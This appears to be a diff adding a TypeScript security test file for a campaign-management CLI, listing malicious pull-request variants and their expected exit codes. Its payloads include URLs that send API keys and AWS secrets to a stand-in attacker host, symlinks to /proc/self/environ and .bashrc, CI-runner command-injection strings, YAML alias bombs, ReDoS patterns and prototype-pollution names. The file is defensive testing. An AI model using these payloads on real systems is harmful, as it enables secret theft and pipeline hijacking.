@@ -1,0 +1,309 @@
+import { execFileSync } from 'node:child_process';
+import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { dirname, join, relative } from 'node:path';
+import { createWorld, serializeWorld } from '../../../src/simulator/world.ts';
+import { ATTACKER, HONEST, type Stage } from './stage.ts';
+
+/** Exit codes of `validate`, `plan` and `apply --yes`, in this order; null where the command is not run. */
+type Codes = readonly [validate: number | null, plan: number | null, apply: number | null];
+
+export interface Variant {
+  readonly title: string;
+  readonly codes: Codes;
+  /** What the pull request puts into the workspace. */
+  readonly change: (stage: Stage) => void;
+  /** Whether CI names the service in HERALD_BASE_URL; true unless the variant is about the address in the files. */
+  readonly pinned?: false;
+  /** Commands in place of the usual ones. */
+  readonly plan?: readonly string[];
+  readonly apply?: readonly string[];
+  readonly env?: Readonly<Record<string, string>>;
+  /** What the author changes between the plan and the apply. */
+  readonly beforeApply?: (stage: Stage) => void;
+  /** What must have stayed as it was on the service. */
+  readonly kept?: (stage: Stage) => unknown;
+}
+
+const resource = (more: object = {}, messages: readonly object[] = [{ text: 'Hey' }]) => ({
+  name: 'Welcome',
+  trigger: 'welcome_message',
+  action: 'send_message',
+  audience: 'everyone',
+  messages,
+  ...more,
+});
+const declaring = (...campaigns: readonly object[]) => JSON.stringify({ accounts: ['alice'], campaigns });
+
+function declares(stage: Stage, ...campaigns: readonly object[]): void {
+  stage.write('live/all.yaml', declaring(...campaigns));
+}
+function workspace(stage: Stage, more: string, text = HONEST): void {
+  stage.write('herald.yaml', `${text}${more}\n`);
+  declares(stage, resource());
+}
+function link(stage: Stage, path: string, aim: string): void {
+  const at = join(stage.directory, path);
+  mkdirSync(dirname(at), { recursive: true });
+  symlinkSync(aim.startsWith('/') ? aim : relative(dirname(at), join(stage.outside, aim)), at);
+}
+function pipe(stage: Stage, path: string): void {
+  const at = join(stage.directory, path);
+  mkdirSync(dirname(at), { recursive: true });
+  execFileSync('mkfifo', [at]);
+}
+const service = (title: string, yaml: string | ((stage: Stage) => string), codes: Codes): Variant => ({
+  title,
+  codes,
+  pinned: false,
+  change: (stage) => workspace(stage, `service: ${typeof yaml === 'string' ? yaml : yaml(stage)}`),
+});
+const pinnedService = (title: string, yaml: string, codes: Codes): Variant => ({
+  title,
+  codes,
+  change: (stage) => workspace(stage, `service: ${yaml}`),
+});
+const linked = (title: string, path: string, aim: string, codes: Codes, more = ''): Variant => ({
+  title,
+  codes,
+  ...(more === '' ? {} : { pinned: false as const }),
+  change: (stage) => {
+    workspace(stage, more);
+    link(stage, path, aim);
+  },
+});
+const textFile = (title: string, put: (stage: Stage) => void): Variant => ({
+  title,
+  codes: [1, 1, 1],
+  change: (stage) => {
+    declares(stage, resource({}, [{ text_file: 'offer.md' }]));
+    put(stage);
+  },
+});
+
+const folder = (title: string, aim: string): Variant => ({
+  title,
+  codes: [1, 1, 1],
+  change: (stage) => {
+    stage.write('herald.yaml', HONEST.replace('live/*.yaml', 'live/**/*.yaml'));
+    link(stage, 'live/more', aim);
+  },
+});
+
+const SIMULATOR = 'service: { simulator: .herald/world.json }';
+
+const ADDRESSES: readonly Variant[] = [
+  service('base_url is the attacker', `{ base_url: "${ATTACKER}" }`, [0, 1, 1]),
+  service('the key in the path of base_url', `{ base_url: "${ATTACKER}/\${HERALD_API_KEY}" }`, [1, 1, 1]),
+  service(
+    'the key in the host of base_url',
+    '{ base_url: "https://${HERALD_API_KEY}.service.test" }',
+    [1, 1, 1],
+  ),
+  service('another secret in base_url', `{ base_url: "${ATTACKER}/\${AWS_SECRET_ACCESS_KEY}" }`, [1, 1, 1]),
+  service('the world of the simulator in ..', '{ simulator: ../outside/world.json }', [0, 1, 1]),
+  service('the world by its whole path', ({ outside }) => `{ simulator: ${outside}/world.json }`, [0, 1, 1]),
+  service('the world named as the key', '{ simulator: "${HERALD_API_KEY}.json" }', [1, 1, 1]),
+  service('the world in .git', '{ simulator: .git/hooks/pre-commit }', [0, 1, 1]),
+  pinnedService('the key as a platform', '{ platforms: { primary: "${HERALD_API_KEY}" } }', [1, 1, 1]),
+  pinnedService('a secret as the header', '{ auth_header: "x-${AWS_SECRET_ACCESS_KEY}" }', [1, 1, 1]),
+  pinnedService('the key in the host header', '{ auth_header: host }', [1, 1, 1]),
+  pinnedService('the key in the accept header', '{ auth_header: Accept }', [1, 1, 1]),
+];
+
+const LINKS: readonly Variant[] = [
+  linked('.herald leads out', '.herald', '.', [0, 1, 1]),
+  linked('the ledger leads out', '.herald/ledger.ndjson', '.bashrc', [0, 1, 1]),
+  linked('the ledger leads to a file that is not there', '.herald/ledger.ndjson', 'new', [0, 1, 1]),
+  linked('the holder of the lock leads out', '.herald/apply.holder.json', '.bashrc', [0, 0, 0]),
+  linked('the world leads out', '.herald/world.json', 'world.json', [0, 1, 1], SIMULATOR),
+  linked('the world never ends', '.herald/world.json', '/dev/zero', [0, 1, 1], SIMULATOR),
+  linked('the ledger never ends', '.herald/ledger.ndjson', '/dev/zero', [0, 1, 1]),
+  folder('a folder of files: leads out', '.'),
+  folder('a folder of files: leads to everything', '/'),
+  textFile('a text leads out', (stage) => link(stage, 'live/offer.md', 'private.txt')),
+  textFile('a text is the environment', (stage) => link(stage, 'live/offer.md', '/proc/self/environ')),
+  textFile('a text never ends', (stage) => link(stage, 'live/offer.md', '/dev/zero')),
+  textFile('a text is a pipe', (stage) => pipe(stage, 'live/offer.md')),
+  {
+    title: 'an attachment leads out',
+    codes: [1, 1, 1],
+    change: (stage) => {
+      declares(stage, resource({}, [{ text: 'Look', attachments: [{ file: 'photo.jpg' }] }]));
+      link(stage, 'live/photo.jpg', 'private.jpg');
+    },
+  },
+  {
+    title: 'the ledger is a pipe',
+    codes: [0, 1, 1],
+    change: (stage) => {
+      workspace(stage, '');
+      pipe(stage, '.herald/ledger.ndjson');
+    },
+  },
+];
+
+/** A line of the ledger that says what a create came to, as a run writes it. */
+const outcome = (liveId: string, createdBy: string): readonly object[] => {
+  const both = { v: 1, at: '2026-06-01T12:00:00.000Z', run: 'r', origin: null, entry: 'r-1', skew_ms: 0 };
+  const address = { account: 'alice', account_id: '101', kind: 'campaign', name: 'Of a person' };
+  const wanted = { content: {}, scheduled_at: null };
+  return [
+    {
+      ...both,
+      ...address,
+      type: 'intent',
+      call: 'create',
+      live_id: null,
+      target: null,
+      purpose: null,
+      content: 'dee760d8c679cf236fe013b1d7cbc98e',
+      hidden: '4f53cda18c2baa0c0354bb5f9a3ecbe5',
+      wanted,
+      supersedes: [],
+      baseline: [],
+      sent_at_ms: 1,
+      who: 'ana',
+    },
+    {
+      ...both,
+      type: 'outcome',
+      outcome: 'done',
+      live_id: liveId,
+      created_by: createdBy,
+      list_ids: [],
+      message: '',
+      sent_at_ms: 1,
+      unheard_ms: null,
+    },
+  ];
+};
+
+const campaignsOf = ({ served }: Stage) =>
+  Object.values(served.simulator.world.accounts['101']?.campaigns ?? {}).map(({ live }) => ({
+    name: live.name,
+    status: live.status,
+  }));
+
+const STEERS = '::error::forged ##[set-env name=PATH]x ##vso[task.setvariable variable=PATH]x';
+
+const CONTENTS: readonly Variant[] = [
+  {
+    title: 'herald.yaml never ends',
+    codes: [1, 1, 1],
+    change: (stage) => {
+      rmSync(join(stage.directory, 'herald.yaml'));
+      link(stage, 'herald.yaml', '/dev/zero');
+    },
+  },
+  {
+    title: 'a pipe as herald.yaml',
+    codes: [1, 1, 1],
+    change: (stage) => {
+      rmSync(join(stage.directory, 'herald.yaml'));
+      pipe(stage, 'herald.yaml');
+    },
+  },
+  {
+    title: 'a lock that was committed',
+    codes: [0, 0, null],
+    change: (stage) => {
+      workspace(stage, '');
+      stage.write('.herald/apply.lock/kept', '');
+    },
+  },
+  {
+    title: 'forged lines make the campaign of a person Herald’s own',
+    codes: [0, 5, 5],
+    change: (stage) => {
+      const seed = { name: 'Of a person', created_by: { type: 'user', id: '77' } };
+      const { id } = stage.served.simulator.control.seedCampaign('101', seed);
+      declares(stage, resource({ name: 'Of a person' }));
+      const lines = outcome(String(id), 'user:77').map((line) => `${JSON.stringify(line)}\n`);
+      stage.write('.herald/ledger.ndjson', lines.join(''));
+    },
+    kept: campaignsOf,
+  },
+  {
+    title: 'a saved plan with other words',
+    codes: [0, 0, 5],
+    plan: ['plan', '--out', 'plan.json'],
+    apply: ['apply', 'plan.json', '--yes'],
+    change: (stage) => declares(stage, resource()),
+    beforeApply: (stage) => {
+      const path = join(stage.directory, 'plan.json');
+      writeFileSync(path, readFileSync(path, 'utf8').replaceAll('Hey', 'Pay here'));
+    },
+    kept: campaignsOf,
+  },
+  {
+    title: 'a world with a header that is none',
+    codes: [0, 1, 1],
+    pinned: false,
+    change: (stage) => {
+      workspace(stage, SIMULATOR);
+      const world = JSON.parse(serializeWorld(createWorld())) as object;
+      stage.write('.herald/world.json', JSON.stringify({ ...world, authHeader: 'a/b c' }));
+    },
+  },
+  {
+    title: 'aliases in aliases',
+    codes: [1, 1, 1],
+    change: (stage) => {
+      const rows = 'bcdefghij'.split('').map((name, at) => {
+        const before = 'abcdefghij'[at];
+        return `${name}: &${name} [${Array.from({ length: 9 }, () => `*${before}`).join(', ')}]`;
+      });
+      stage.write('live/all.yaml', `a: &a [x]\n${rows.join('\n')}\naccounts: *j\n`);
+    },
+  },
+  {
+    title: 'a banned word that takes hours',
+    codes: [1, 1, 1],
+    change: (stage) => {
+      stage.write('herald.yaml', `${HONEST}policy: { banned_words: ['/.*x.*x.*x.*y/'] }\n`);
+      declares(stage, resource({}, [{ text: 'x'.repeat(4000) }]));
+    },
+  },
+  {
+    title: 'a pattern of files: that takes hours',
+    codes: [0, 0, 0],
+    change: (stage) => {
+      stage.write('herald.yaml', HONEST.replace('live/*.yaml', `live/${'*a'.repeat(12)}b`));
+      stage.write(`live/${'a'.repeat(250)}`, '');
+    },
+  },
+  {
+    title: 'names that give commands to the CI runner',
+    codes: [1, 1, 1],
+    env: { GITHUB_ACTIONS: 'true', TF_BUILD: 'True' },
+    change: (stage) => {
+      stage.write(`live/${STEERS}.yaml`, 'nonsense: [');
+      declares(stage, resource({ name: STEERS }, [{ text: `Hey ${'a'.repeat(70)} ${STEERS}` }]));
+    },
+  },
+  {
+    title: 'texts that give commands to the CI runner',
+    codes: [0, 0, 0],
+    env: { GITHUB_ACTIONS: 'true', TF_BUILD: 'True' },
+    change: (stage) =>
+      declares(stage, resource({ name: STEERS }, [{ text: `Hey ${'a'.repeat(70)} ${STEERS}` }])),
+  },
+  {
+    title: 'names that every object of JavaScript has',
+    codes: [1, 1, 1],
+    change: (stage) => {
+      declares(stage, resource({ name: '__proto__' }), resource({ name: 'toString', constructor: 1 }));
+      stage.write('live/b.yaml', declaring(resource()).replace('alice', 'constructor'));
+    },
+  },
+  {
+    title: 'the service redirects to the attacker',
+    codes: [0, 1, 1],
+    change: (stage) => {
+      workspace(stage, '');
+      stage.redirect();
+    },
+  },
+];
+
+export const VARIANTS: readonly Variant[] = [...ADDRESSES, ...LINKS, ...CONTENTS];
